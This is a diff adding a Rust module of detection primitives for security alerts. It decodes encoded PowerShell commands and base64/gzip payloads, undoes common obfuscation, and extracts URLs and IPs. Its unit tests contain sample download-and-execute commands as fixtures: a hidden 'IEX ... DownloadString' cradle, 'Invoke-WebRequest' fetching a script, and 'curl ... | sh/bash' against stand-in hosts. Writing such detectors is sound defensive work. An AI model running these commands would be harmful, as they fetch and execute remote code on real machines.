@@ -1,0 +1,522 @@
+//! Native detection primitives behind the expression language's functions.
+//!
+//! They are plain Rust over strings so they can be tested and benchmarked on their own. All of
+//! them treat their input as hostile: bounded work, bounded output, no panics on any input.
+
+use base64::Engine as _;
+use regex::Regex;
+use std::cell::RefCell;
+use std::collections::HashMap;
+use std::net::IpAddr;
+use std::sync::LazyLock;
+
+/// Output of any decoding is capped: a decompression bomb in an alert costs at most this much.
+const MAX_DECODED: usize = 256 * 1024;
+/// Nested encodings are peeled at most this deep (an encoded command that decodes to another
+/// `FromBase64String(...)` is common; deeper nesting is reported as what it is at that depth).
+const MAX_DEPTH: usize = 3;
+
+thread_local! {
+    static REGEX_CACHE: RefCell<HashMap<String, Result<Regex, String>>> = RefCell::new(HashMap::new());
+}
+
+/// Compiles a pattern once per thread; later calls hit the cache. Playbook validation compiles
+/// every literal pattern up front, so an invalid one is reported before any alert is run.
+pub fn with_regex<T>(pattern: &str, f: impl FnOnce(&Regex) -> T) -> Result<T, String> {
+    REGEX_CACHE.with(|c| {
+        let mut c = c.borrow_mut();
+        if !c.contains_key(pattern) {
+            if c.len() > 4096 {
+                c.clear();
+            }
+            let r = regex::RegexBuilder::new(pattern)
+                .size_limit(1 << 20)
+                .build()
+                .map_err(|e| e.to_string());
+            c.insert(pattern.to_owned(), r);
+        }
+        match c.get(pattern).expect("inserted above") {
+            Ok(r) => Ok(f(r)),
+            Err(e) => Err(e.clone()),
+        }
+    })
+}
+
+/// Checks that a regex pattern compiles (used by validation).
+pub fn check_regex(pattern: &str) -> Result<(), String> {
+    with_regex(pattern, |_| ())
+}
+
+/// Last path component, for both `\` and `/` separators. Keeps the case.
+pub fn basename(path: &str) -> &str {
+    let p = path.trim_end_matches(['\\', '/']);
+    p.rsplit(['\\', '/']).next().unwrap_or(p).trim_matches('"')
+}
+
+/// Everything before the last separator.
+pub fn dirname(path: &str) -> &str {
+    let p = path.trim_end_matches(['\\', '/']);
+    match p.rfind(['\\', '/']) {
+        Some(i) => &p[..i],
+        None => "",
+    }
+}
+
+/// Case-insensitive "contains any of".
+pub fn contains_any(haystack: &str, needles: &[String]) -> bool {
+    let h = haystack.to_lowercase();
+    needles.iter().any(|n| !n.is_empty() && h.contains(&n.to_lowercase()))
+}
+
+/// Splits a command line into arguments, Windows-style quoting (also right for simple POSIX
+/// lines): double quotes group, backslashes before a quote escape it.
+pub fn split_args(cmd: &str) -> Vec<String> {
+    let mut out = Vec::new();
+    let mut cur = String::new();
+    let mut in_q = false;
+    let mut have = false;
+    let mut chars = cmd.chars().peekable();
+    while let Some(c) = chars.next() {
+        match c {
+            '\\' if chars.peek() == Some(&'"') => {
+                chars.next();
+                cur.push('"');
+                have = true;
+            }
+            '"' => {
+                in_q = !in_q;
+                have = true;
+            }
+            c if c.is_whitespace() && !in_q => {
+                if have {
+                    out.push(std::mem::take(&mut cur));
+                    have = false;
+                }
+            }
+            c => {
+                cur.push(c);
+                have = true;
+            }
+        }
+        if out.len() > 4096 {
+            break;
+        }
+    }
+    if have {
+        out.push(cur);
+    }
+    out
+}
+
+fn is_encoded_switch(arg: &str) -> bool {
+    let a = arg.trim_start_matches(['-', '/', '\u{2013}', '\u{2014}']);
+    if a.len() == arg.len() || a.is_empty() {
+        return false;
+    }
+    let a = a.to_ascii_lowercase();
+    a == "ec" || (a.starts_with('e') && "encodedcommand".starts_with(a.as_str()))
+}
+
+/// Decodes a base64 string tolerantly (missing padding, whitespace, URL-safe alphabet).
+pub fn b64_bytes(s: &str) -> Option<Vec<u8>> {
+    let cleaned: String = s
+        .chars()
+        .filter(|c| !c.is_whitespace() && *c != '"' && *c != '\'')
+        .map(|c| match c {
+            '-' => '+',
+            '_' => '/',
+            c => c,
+        })
+        .collect();
+    let trimmed = cleaned.trim_end_matches('=');
+    if trimmed.len() < 4 {
+        return None;
+    }
+    base64::engine::general_purpose::STANDARD_NO_PAD
+        .decode(trimmed.as_bytes())
+        .or_else(|_| {
+            // Drop a trailing partial quantum rather than fail on a truncated log field.
+            let n = trimmed.len() / 4 * 4;
+            base64::engine::general_purpose::STANDARD_NO_PAD.decode(&trimmed.as_bytes()[..n])
+        })
+        .ok()
+}
+
+/// Bytes to text: UTF-16LE when it looks like it (PowerShell's `-EncodedCommand`), else UTF-8.
+/// Returns `None` when the result is not mostly printable text.
+pub fn bytes_to_text(b: &[u8]) -> Option<String> {
+    if b.len() >= 4 && b.len() % 2 == 0 {
+        let zeros = b.iter().skip(1).step_by(2).filter(|x| **x == 0).count();
+        if zeros * 10 >= (b.len() / 2) * 7 {
+            let units: Vec<u16> = b.chunks_exact(2).map(|c| u16::from_le_bytes([c[0], c[1]])).collect();
+            let s = String::from_utf16_lossy(&units);
+            return printable(&s).then_some(s);
+        }
+    }
+    let s = String::from_utf8_lossy(b).into_owned();
+    printable(&s).then_some(s)
+}
+
+fn printable(s: &str) -> bool {
+    let total = s.chars().count();
+    if total == 0 {
+        return false;
+    }
+    let good = s
+        .chars()
+        .filter(|c| !c.is_control() || matches!(c, '\n' | '\r' | '\t'))
+        .filter(|c| *c != '\u{FFFD}')
+        .count();
+    good * 100 >= total * 90
+}
+
+/// Inflates gzip or raw deflate data (PowerShell `GzipStream`/`DeflateStream` payloads).
+fn inflate(b: &[u8]) -> Option<Vec<u8>> {
+    use miniz_oxide::inflate::decompress_to_vec_with_limit as raw;
+    use miniz_oxide::inflate::decompress_to_vec_zlib_with_limit as zlib;
+    if b.len() > 18 && b[0] == 0x1f && b[1] == 0x8b && b[2] == 8 {
+        // gzip: skip the 10-byte header (and optional fields), inflate the deflate body.
+        let flags = b[3];
+        let mut i = 10usize;
+        if flags & 4 != 0 {
+            let xlen = *b.get(i)? as usize | (*b.get(i + 1)? as usize) << 8;
+            i += 2 + xlen;
+        }
+        for bit in [8u8, 16] {
+            if flags & bit != 0 {
+                while *b.get(i)? != 0 {
+                    i += 1;
+                }
+                i += 1;
+            }
+        }
+        if flags & 2 != 0 {
+            i += 2;
+        }
+        return raw(b.get(i..)?, MAX_DECODED).ok();
+    }
+    raw(b, MAX_DECODED).ok().or_else(|| zlib(b, MAX_DECODED).ok())
+}
+
+static B64_RUN: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r"[A-Za-z0-9+/]{24,}={0,2}").expect("static regex"));
+
+/// One decoding layer of `text`: the payloads of encoded-command switches, and every long base64
+/// run that decodes to text (or to gzip/deflate data that inflates to text).
+pub fn decode_layer(text: &str) -> Vec<String> {
+    let mut out: Vec<String> = Vec::new();
+    let push = |s: String, out: &mut Vec<String>| {
+        if !s.trim().is_empty() && !out.contains(&s) {
+            out.push(s);
+        }
+    };
+    // Encoded-command switches: the argument after `-e`, `-enc`, `-EncodedCommand`, `-ec`, ...
+    let args = split_args(text);
+    for w in args.windows(2) {
+        if is_encoded_switch(&w[0]) {
+            if let Some(s) = b64_bytes(&w[1]).and_then(|b| bytes_to_text(&b)) {
+                push(s, &mut out);
+            }
+        }
+    }
+    // Any other long base64 run (FromBase64String('...'), `echo ... | base64 -d`, ...).
+    for m in B64_RUN.find_iter(text).take(64) {
+        let run = m.as_str();
+        // Skip runs that are just words/paths: base64 payloads mix case and digits.
+        let has_digit = run.bytes().any(|c| c.is_ascii_digit());
+        let has_upper = run.bytes().any(|c| c.is_ascii_uppercase());
+        let has_lower = run.bytes().any(|c| c.is_ascii_lowercase());
+        if !(has_upper && has_lower && (has_digit || run.len() >= 40)) {
+            continue;
+        }
+        let Some(bytes) = b64_bytes(run) else { continue };
+        if let Some(s) = bytes_to_text(&bytes) {
+            push(s, &mut out);
+        } else if let Some(s) = inflate(&bytes).and_then(|b| bytes_to_text(&b)) {
+            push(s, &mut out);
+        }
+    }
+    out
+}
+
+/// Everything an alert's text hides: the decoded layers of encoded commands and base64 payloads,
+/// peeled up to [`MAX_DEPTH`] deep, joined with newlines. Empty when nothing was encoded.
+pub fn decoded(text: &str) -> String {
+    let mut layers: Vec<String> = Vec::new();
+    let mut frontier = vec![text.to_owned()];
+    let mut total = 0usize;
+    for _ in 0..MAX_DEPTH {
+        let mut next = Vec::new();
+        for t in &frontier {
+            for s in decode_layer(t) {
+                if total + s.len() > MAX_DECODED || layers.contains(&s) {
+                    continue;
+                }
+                total += s.len();
+                layers.push(s.clone());
+                next.push(s);
+            }
+        }
+        if next.is_empty() {
+            break;
+        }
+        frontier = next;
+    }
+    layers.join("\n")
+}
+
+static CONCAT: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r#"(['"])\s*\+\s*(['"])"#).expect("static regex"));
+static WS: LazyLock<Regex> = LazyLock::new(|| Regex::new(r"\s+").expect("static regex"));
+
+/// Undoes the cheap obfuscations: cmd carets, PowerShell backticks, string concatenation
+/// (`'Ne'+'t.WebC'+'lient'`), empty-quote splitting (`h''t''t''p`), case and whitespace runs.
+/// The result is lower case, for matching keywords the author meant to hide.
+pub fn deobfuscate(text: &str) -> String {
+    let t = CONCAT.replace_all(text, "");
+    let mut s = String::with_capacity(t.len());
+    let mut prev = '\0';
+    for c in t.chars() {
+        match c {
+            '^' => {}
+            '`' => {}
+            '\'' | '"' if prev == c => {
+                // empty quote pair: drop both
+                s.pop();
+                prev = '\0';
+                continue;
+            }
+            c => s.push(c),
+        }
+        prev = c;
+    }
+    WS.replace_all(&s.to_lowercase(), " ").into_owned()
+}
+
+/// Share of characters that are obfuscation punctuation (`^`, `` ` ``, `+`, quotes) — cmd
+/// DOSfuscation and Invoke-Obfuscation drive this up; normal command lines stay low.
+pub fn obfuscation_ratio(text: &str) -> f64 {
+    let n = text.chars().count();
+    if n == 0 {
+        return 0.0;
+    }
+    let k = text.chars().filter(|c| matches!(c, '^' | '`' | '+' | '\'' | '"' | '{' | '}')).count();
+    k as f64 / n as f64
+}
+
+/// Shannon entropy in bits per character.
+pub fn entropy(text: &str) -> f64 {
+    let mut counts: HashMap<char, usize> = HashMap::new();
+    let mut n = 0usize;
+    for c in text.chars() {
+        *counts.entry(c).or_default() += 1;
+        n += 1;
+    }
+    if n == 0 {
+        return 0.0;
+    }
+    counts
+        .values()
+        .map(|&k| {
+            let p = k as f64 / n as f64;
+            -p * p.log2()
+        })
+        .sum()
+}
+
+static URL: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"(?i)\b(?:https?|ftp)://[^\s'"<>()\[\]{}|^`,;\\]+"#).expect("static regex")
+});
+
+/// URLs named in the text (http, https, ftp), trailing punctuation trimmed, de-duplicated.
+pub fn urls(text: &str) -> Vec<String> {
+    let mut out: Vec<String> = Vec::new();
+    for m in URL.find_iter(text).take(256) {
+        let u = m.as_str().trim_end_matches(['.', ':', '!', '?']);
+        if url_host(u).is_some_and(|h| !h.is_empty()) && !out.iter().any(|x| x == u) {
+            out.push(u.to_owned());
+        }
+    }
+    out
+}
+
+/// The host part of a URL, lower case, without port or credentials.
+pub fn url_host(url: &str) -> Option<String> {
+    let rest = url.split_once("://")?.1;
+    let authority = rest.split(['/', '?', '#']).next()?;
+    let hostport = authority.rsplit('@').next()?;
+    let host = if let Some(h) = hostport.strip_prefix('[') {
+        h.split(']').next()?
+    } else {
+        hostport.split(':').next()?
+    };
+    Some(host.trim_end_matches('.').to_ascii_lowercase())
+}
+
+static IPV4: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"(?:^|[^0-9.])((?:25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)(?:\.(?:25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)){3})(?:$|[^0-9.])")
+        .expect("static regex")
+});
+
+/// IPv4 addresses named in the text (not version numbers like 10.0.17763.1), de-duplicated.
+pub fn ips(text: &str) -> Vec<String> {
+    let mut out: Vec<String> = Vec::new();
+    let mut start = 0;
+    while let Some(c) = IPV4.captures_at(text, start) {
+        let m = c.get(1).expect("group 1");
+        let ip = m.as_str().to_owned();
+        if !out.contains(&ip) {
+            out.push(ip);
+        }
+        start = m.end();
+        if out.len() >= 256 {
+            break;
+        }
+    }
+    out
+}
+
+/// True for a syntactically valid IP that is routable on the internet: not private, loopback,
+/// link-local, CGNAT, multicast, documentation, benchmarking, broadcast or unspecified.
+pub fn is_public_ip(ip: &str) -> bool {
+    let Ok(ip) = ip.trim().parse::<IpAddr>() else { return false };
+    match ip {
+        IpAddr::V4(v4) => public_v4(v4),
+        IpAddr::V6(v6) => {
+            if let Some(v4) = v6.to_ipv4_mapped() {
+                return public_v4(v4);
+            }
+            let s = v6.segments();
+            !(v6.is_loopback()
+                || v6.is_unspecified()
+                || v6.is_multicast()
+                || (s[0] & 0xfe00) == 0xfc00 // unique local
+                || (s[0] & 0xffc0) == 0xfe80 // link local
+                || (s[0] == 0x2001 && s[1] == 0x0db8)) // documentation
+        }
+    }
+}
+
+fn public_v4(v4: std::net::Ipv4Addr) -> bool {
+    let o = v4.octets();
+    !(v4.is_private()
+        || v4.is_loopback()
+        || v4.is_link_local()
+        || v4.is_multicast()
+        || v4.is_broadcast()
+        || v4.is_unspecified()
+        || v4.is_documentation()
+        || o[0] == 0
+        || (o[0] == 100 && (o[1] & 0xc0) == 64) // CGNAT 100.64/10
+        || (o[0] == 198 && (o[1] & 0xfe) == 18) // benchmarking 198.18/15
+        || (o[0] == 192 && o[1] == 0 && o[2] == 0) // IETF protocol assignments
+        || o[0] >= 240) // reserved
+}
+
+/// True when `ip` is inside any of the CIDRs (or equal to a bare address in the list).
+pub fn ip_in(ip: &str, cidrs: &[String]) -> bool {
+    let Ok(addr) = ip.trim().parse::<IpAddr>() else { return false };
+    cidrs.iter().any(|c| {
+        c.parse::<ipnet::IpNet>()
+            .map(|n| n.contains(&addr))
+            .or_else(|_| c.parse::<IpAddr>().map(|a| a == addr))
+            .unwrap_or(false)
+    })
+}
+
+/// True when `domain` equals one of `list` or is a subdomain of it (label boundary).
+pub fn domain_in(domain: &str, list: &[String]) -> bool {
+    let d = domain.trim().trim_end_matches('.').to_ascii_lowercase();
+    list.iter().any(|e| {
+        let e = e.trim().trim_start_matches("*.").trim_end_matches('.').to_ascii_lowercase();
+        !e.is_empty() && (d == e || d.ends_with(&format!(".{e}")))
+    })
+}
+
+/// True for a string that parses as an IP address.
+pub fn is_ip(s: &str) -> bool {
+    s.trim().parse::<IpAddr>().is_ok()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn enc(s: &str) -> String {
+        let u: Vec<u8> = s.encode_utf16().flat_map(|u| u.to_le_bytes()).collect();
+        base64::engine::general_purpose::STANDARD.encode(u)
+    }
+
+    #[test]
+    fn decodes_encoded_command_with_any_switch_prefix() {
+        for sw in ["-e", "-ec", "-enc", "-EncodedCommand", "/enc", "-ENCOD"] {
+            let cmd = format!("powershell.exe -nop -w hidden {sw} {}", enc("IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')"));
+            let d = decoded(&cmd);
+            assert!(d.contains("DownloadString"), "{sw}: {d}");
+        }
+        // -ep is ExecutionPolicy, not an encoded command
+        assert_eq!(decoded("powershell -ep bypass -file x.ps1"), "");
+    }
+
+    #[test]
+    fn decodes_nested_frombase64_and_gzip() {
+        let inner = base64::engine::general_purpose::STANDARD.encode("Invoke-WebRequest http://203.0.113.9/p.ps1");
+        let outer = enc(&format!("IEX([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{inner}')))"));
+        let d = decoded(&format!("powershell -enc {outer}"));
+        assert!(d.contains("FromBase64String"));
+        assert!(d.contains("http://203.0.113.9/p.ps1"), "{d}");
+        // gzip
+        let mut gz = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff];
+        gz.extend(miniz_oxide::deflate::compress_to_vec(b"curl http://bad.example/x | sh; echo done done done", 6));
+        gz.extend([0u8; 8]);
+        let b = base64::engine::general_purpose::STANDARD.encode(&gz);
+        assert!(decoded(&format!("FromBase64String('{b}') GzipStream")).contains("bad.example"));
+    }
+
+    #[test]
+    fn hostile_input_is_bounded() {
+        let big = "A".repeat(1_000_000);
+        let _ = decoded(&big);
+        let _ = urls(&big);
+        let _ = ips(&"1.".repeat(100_000));
+        assert_eq!(decoded(""), "");
+    }
+
+    #[test]
+    fn deobfuscation() {
+        assert!(deobfuscate("p^o^w^e^r^s^h^e^l^l").contains("powershell"));
+        assert!(deobfuscate("(New-Object 'Ne'+'t.We'+'bClient')").contains("net.webclient"));
+        assert!(deobfuscate("I`E`X").contains("iex"));
+        assert!(deobfuscate("h''t''t''p://x").contains("http://x"));
+    }
+
+    #[test]
+    fn extracts_indicators() {
+        let t = "iwr http://198.51.100.7:8080/a.ps1; curl https://raw.githubusercontent.com/x/y.sh|bash; v10.0.17763.1 8.8.8.8";
+        assert_eq!(urls(t), vec!["http://198.51.100.7:8080/a.ps1", "https://raw.githubusercontent.com/x/y.sh"]);
+        assert_eq!(ips(t), vec!["198.51.100.7", "8.8.8.8"]);
+        assert_eq!(url_host("https://user@Host.Example:443/p").as_deref(), Some("host.example"));
+    }
+
+    #[test]
+    fn ip_classes() {
+        for ip in ["10.1.2.3", "172.16.0.1", "192.168.1.1", "127.0.0.1", "169.254.1.1", "100.64.0.1", "::1", "fe80::1", "fd00::1", "224.0.0.1", "0.0.0.0", "255.255.255.255", "198.51.100.1"] {
+            assert!(!is_public_ip(ip), "{ip}");
+        }
+        for ip in ["8.8.8.8", "151.101.208.133", "2606:4700::1111"] {
+            assert!(is_public_ip(ip), "{ip}");
+        }
+        assert!(ip_in("10.2.3.4", &["10.0.0.0/8".into()]));
+        assert!(!ip_in("11.2.3.4", &["10.0.0.0/8".into()]));
+        assert!(domain_in("raw.githubusercontent.com", &["githubusercontent.com".into()]));
+        assert!(!domain_in("evilgithubusercontent.com", &["githubusercontent.com".into()]));
+    }
+
+    #[test]
+    fn paths_and_args() {
+        assert_eq!(basename(r"C:\Windows\System32\cmd.exe"), "cmd.exe");
+        assert_eq!(basename("/usr/bin/python3"), "python3");
+        assert_eq!(dirname(r"C:\Users\bob\a.vbs"), r"C:\Users\bob");
+        assert_eq!(split_args(r#""C:\Program Files\x.exe" -a "b c" d"#), vec![r"C:\Program Files\x.exe", "-a", "b c", "d"]);
+    }
+}
